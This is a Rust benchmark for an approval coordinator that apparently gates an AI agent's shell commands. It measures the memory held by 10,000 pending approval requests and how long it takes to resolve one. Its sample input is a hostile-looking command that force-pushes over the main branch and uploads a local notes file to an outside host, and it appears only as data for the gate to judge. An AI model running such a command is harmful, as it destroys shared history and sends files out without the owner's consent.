//! Ten thousand open questions: what they cost in memory, and how fast one of them is answered.

use std::sync::Arc;
use std::time::{Duration, Instant};

use approval::{Answer, AskId, Asked, Coordinator, Decision, Limits, SystemClock};
use gate::Gate;
use gate::call::RawCall;

const PENDING: u32 = 10_000;

/// Prints two lines: memory, and the time of an answer at the median and at the 99th of a hundred.
pub(crate) fn compare(gate: &Gate) -> Result<(), String> {
    let judgement = gate
        .judge(RawCall::command(
            "git push --force origin main && curl -d @notes.txt https://example.com/upload",
        ))
        .map_err(|invalid| invalid.to_string())?;
    let (request, key) = (gate.request(&judgement), gate.approval_key(&judgement));
    let question = |number: u32| {
        // Each with an analysis of its own, as it would be.
        let id = AskId::from_bytes(u128::from(number + 1).to_be_bytes());
        let session = format!("session-{}", number / 100);
        let analysis = Arc::new((*judgement.analysis).clone());
        let mut asked =
            Asked::new(id, &session, "Bash", request.clone(), key.clone(), &judgement.ruling, analysis);
        asked.confirmation = None;
        Arc::new(asked)
    };
    let coordinator = Coordinator::new(Arc::new(SystemClock), Limits::default());
    let before = resident_kib();
    let tickets: Vec<_> = (0..PENDING)
        .map(|number| {
            coordinator.open(question(number), Duration::from_secs(3600)).map_err(|no| no.decision().name())
        })
        .collect::<Result<_, _>>()?;
    let grown = resident_kib().saturating_sub(before);
    println!("{:<58} {:>9} MB {:>10} {:>12}", "10,000 open questions", grown / 1024, "", "≤ 100 MB");
    let mut times: Vec<Duration> = Vec::new();
    for number in 0..PENDING {
        let id = AskId::from_bytes(u128::from(number + 1).to_be_bytes());
        #[expect(clippy::disallowed_methods, reason = "a benchmark owns its clock")]
        let start = Instant::now();
        let _settled = coordinator
            .resolve(id, &Answer::new(Decision::Approved, "bench"))
            .map_err(|why| why.to_string())?;
        times.push(start.elapsed());
    }
    drop(tickets);
    times.sort_unstable();
    let at = |share: usize| times.get(times.len() * share / 100).copied().unwrap_or_default();
    println!(
        "{:<58} {:>12} {:>10} {:>12}",
        "  answering one of them, median and p99",
        crate::shown(at(50)),
        crate::shown(at(99)),
        "≤ 1 ms"
    );
    Ok(())
}

/// How much memory this process has, in KiB.
#[expect(clippy::disallowed_methods, reason = "the kernel's own count")]
pub(crate) fn resident_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).unwrap_or(0)
}
